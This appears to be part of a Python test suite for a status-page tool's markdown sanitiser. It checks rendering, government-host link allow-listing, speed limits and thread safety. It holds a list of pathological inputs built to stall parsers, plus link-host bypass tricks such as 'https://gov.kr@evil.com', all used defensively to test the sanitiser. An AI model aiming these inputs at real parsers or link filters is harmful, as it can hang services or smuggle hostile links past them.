        assert ["html-in-words", "link-scheme", "html-in-words"] == codes(
            "<b>x</b> [a](data:x) [b](data:y)\n<i>"
        )

    def test_the_same_address_twice_has_two_places(self) -> None:
        """Mending the first one only would leave the second."""
        found = prose.faults("[a](https://evil.example)\n\n[b](https://evil.example)", LINKS)
        assert [(1, 5), (3, 5)] == [(fault.line, fault.column) for fault in found]

    def test_every_link_that_is_left_out_is_reported(self) -> None:
        """`html` and `faults` judge by the same reading."""
        for payload in (
            "[a](https://x.example)",
            "- [a](x:y)",
            "> [a](//x)",
            "| a | b |\n|-|-|\n| [a](x:y) | c |",
        ):
            assert [] == Seen(prose.html(payload, LINKS)).links()
            assert codes(payload)[0].startswith("link-")


HOSTILE = {
    "brackets": "[" * 20_000,
    "brackets below the limit": ("[" * 50 + " ") * 400,
    "open links": "[](" * 6_000,
    "links in links": "[a" * 10_000 + "](x)" * 10,
    "closing brackets": "](" * 10_000,
    "pairs in pairs": "[[a]" * 5_000,
    "titles": '[a](b "' * 3_000,
    "titles of both kinds": "[a](b '\"" * 2_500,
    "addresses with brackets": "[a](b(c)" * 2_500,
    "pictures": "![" * 10_000,
    "tags": "<a " * 6_666,
    "attributes": '<a b="' * 3_333,
    "comments": "<!--" * 5_000,
    "angle brackets": "<" * 20_000,
    "addresses": "<https://" * 2_200,
    "mailboxes": "<a@" * 6_666,
    "stars": "*" * 20_000,
    "open emphasis": "*a " * 6_666,
    "open strong": "**a " * 5_000,
    "emphasis in strong": "**a *b " * 2_850,
    "long emphasis": "*a*" * 6_666,
    "underscores": "_a " * 6_666,
    "words with underscores": "a_" * 10_000,
    "backticks": "`a" * 10_000,
    "backticks of every length": "".join("`" * size + " " for size in range(199)),
    "backslashes": "\\" * 20_000,
    "escapes": "\\*" * 10_000,
    "references": "&#x1F;" * 3_333,
    "lines": "a\n" * 10_000,
    "paragraphs": "a\n\n" * 6_666,
    "fences": "```a\n" * 4_000,
    "fences with options": '``` hl_lines="' * 1_400,
    "headings": "# a\n" * 5_000,
    "hashes": "# " * 10_000,
    "dashes": "- " * 10_000,
    "rules": "---\n" * 5_000,
    "items": "- a\n" * 5_000,
    "loose items": "- a\n\n" * 4_000,
    "lists of both kinds": "1. a\n- b\n" * 2_200,
    "deep lists": "".join("  " * depth + "- a\n" for depth in range(300)),
    "lists as deep as allowed": "".join("  " * (line % 8) + "- a\n" for line in range(1_800)),
    "deep quotes": ">" * 300 + " a",
    "quotes as deep as allowed": ("> " * 8 + "a\n") * 1_100,
    "quotes in quotes": "".join("> " * (line % 9) + "a\n" for line in range(1_900)),
    "a long table": "a|b\n-|-\n" + "a|b\n" * 4_900,
    "a broad table": "a|" * 5_000 + "\n" + "-|" * 5_000,
    "a broad table of short rows": "a|" * 39 + "\n" + "-|" * 39 + "\n" + "|\n" * 9_900,
    "pipes and backticks": "`|" * 10_000,
    "spaces": " " * 19_000 + "a",
    "a megabyte": "[](<a **`" * 120_000,
    "a megabyte of lines": "> \n" * 350_000,
}


class TestHostileWords:
    """One broken or hostile note must never hold up a publication (R37)."""

    def test_all_of_them_together_take_no_time(self) -> None:
        """An ordinary parser needs minutes for the first one alone. Run apart, so as to be stopped."""
        program = """if True:
            import sys
            from statuspage import prose
            from test_prose import HOSTILE, LINKS
            for name, text in HOSTILE.items():
                print(name, flush=True)
                prose.html(text, LINKS)
                prose.plain(text, LINKS)
                list(prose.faults(text, LINKS))
        """
        path = [*sys.path]
        run = subprocess.run(
            [sys.executable, "-c", f"import sys; sys.path[:] = {path!r}\n{program}"],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert "" == run.stderr
        assert [*HOSTILE] == run.stdout.splitlines()

    @pytest.mark.parametrize("name", HOSTILE)
    def test_each_is_still_published_safely(self, name: str) -> None:
        """The words are shown; only their structure may be lost, and then `check` says so."""
        text = HOSTILE[name]
        if len(text) > 100_000:
            text = text[:100_000]
        spent = time.process_time()
        html = prose.html(text, LINKS)
        spent = time.process_time() - spent
        assert spent < 10, "2 s is the promise; five times that is no accident of a busy machine"
        assert_safe(html)
        assert not prose._written(text, LINKS).deep or {"words-too-long", "words-too-deep"} & {*codes(text)}

    def test_time_grows_with_the_length_and_not_with_its_square(self) -> None:
        """Counted in steps of the interpreter, so that a busy machine changes nothing."""

        def steps(text: str) -> int:
            count = 0

            def tracer(frame: FrameType, event: str, argument: object) -> TraceFunction:
                nonlocal count
                count += 1
                return tracer

            prose._written.cache_clear()
            before = sys.gettrace()
            sys.settrace(tracer)
            try:
                prose.html(text, LINKS)
            finally:
                sys.settrace(before)
            return count

        prose.html("[a](b)", LINKS)
        for unit in ("[](", "<a ", "*a ", "**a ", "`a", "![", "- a\n", "a|b\n", "a\n", "\\*"):
            short, long = steps(unit * 200), steps(unit * 800)
            assert long < 5 * short + 2_000, unit

    def test_words_beyond_the_limits_keep_their_paragraphs_and_lines(self) -> None:
        """A story that outgrew the limit is still the news of the day."""
        text = "첫 줄\n둘째 <줄>\n\n" + "가" * 20_000
        assert f"<p>첫 줄<br>\n둘째 &lt;줄&gt;</p>\n<p>{'가' * 20_000}</p>" == prose.html(text, LINKS)
        assert f"첫 줄\n둘째 <줄>\n\n{'가' * 20_000}" == prose.plain(text)


class TestTheLibrary:
    """Markdown and the sanitiser are behind one door, and are opened only when there are words."""

    def test_nothing_heavy_is_loaded_before_it_is_needed(self) -> None:
        """`statuspage --help` must answer at once."""
        program = (
            f"import sys; sys.path[:] = {[*sys.path]!r}; from statuspage import prose;"
            "prose.Links(('*.go.kr',)).permits('https://www.go.kr');"
            "print([name for name in ('markdown', 'nh3', 'lxml') if name in sys.modules])"
        )
        run = subprocess.run(
            [sys.executable, "-c", program], capture_output=True, text=True, check=True, timeout=60
        )
        assert "[]\n" == run.stdout

    def test_one_text_leaves_no_trace_in_the_next(self) -> None:
        """The parser is used again and again; an open fence or list must not reach into another note."""
        alone = {
            text: prose.html(text, LINKS) for text in ("# a", "## a\n# b", "- a\n  - b", "1. a", "`a", "**a*")
        }
        prose._written.cache_clear()
        for text, expected in [*alone.items(), *reversed(alone.items())]:
            prose._written.cache_clear()
            prose.html("### x\n- y\n  1. z\n```\n" + text, LINKS)
            assert expected == prose.html(text, LINKS)

    def test_several_threads_may_write_at_once(self) -> None:
        """The preview server answers while it rebuilds; the parser itself reads one text at a time."""
        texts = [f"# {number}\n- [a](https://www.go.kr/{number})\n  - `{number}`" for number in range(200)]
        expected = [prose.html(text, LINKS) for text in texts]
        prose._written.cache_clear()
        with ThreadPoolExecutor(8) as threads:
            assert expected == [*threads.map(lambda text: prose.html(text, LINKS), texts)]


def test_nothing_that_has_to_be_removed_can_be_printed() -> None:
    """Whole texts are told harmless at a glance by that."""
    printable = "".join(letter for letter in map(chr, range(0x110000)) if letter.isprintable())

    assert len(printable) > 100_000
    for never in (prose._REMOVED, files._CONTROL, feeds._ILLEGAL):
        assert never.search(printable) is None


@pytest.mark.parametrize(
    ("text", "codes"),
    [
        ("[표](https://gov.kr/a?b=1) [둘](https://x.go.kr)", []),
        ("[표](https://www.evil.com/a)", ["link-host"]),
        ("[표](https://gov.kr) [둘](https://www.evil.com)", ["link-host"]),
        ("[표](https://gov.kr.evil.com)", ["link-host"]),
        ("[표](https://gov.kr@evil.com)", ["link-host"]),
        ("[표](//evil.com)", ["link-host"]),
        ("[표](https://gov.kr&#46;evil.com)", ["link-host"]),
        ("![표](https://gov.kr/a.png)", ["image-in-words"]),
        ("<https://evil.com>", ["link-host"]),
    ],
)
def test_no_link_slips_through_the_first_glance(text: str, codes: list[str]) -> None:
    """Most links are simple and lead well; every other is looked at as the page will have it."""
    assert codes == [fault.code for fault in prose.faults(text, LINKS)]


@given(
    st.lists(
        st.sampled_from(
            ["- 가", "1. 나", "  ", "    ", "\n", "\n" + " " * 14, "|", "[", "(", ">", "\t", "글 "]
        ),
        max_size=80,
    ).map("".join)
)
@example("".join("\n" + "  " * depth + "- 가" for depth in range(12)))
@example("[" * 51)
def test_what_looks_shallow_is_shallow(text: str) -> None:
    """Only what may be too deep is taken apart when notes are checked."""
    try:
        prose._prepared(text)
    except prose._TooDeepError:
        assert not prose._shallow(text)
    else:
        assert "words-too-deep" not in {fault.code for fault in prose.faults(text, LINKS)}
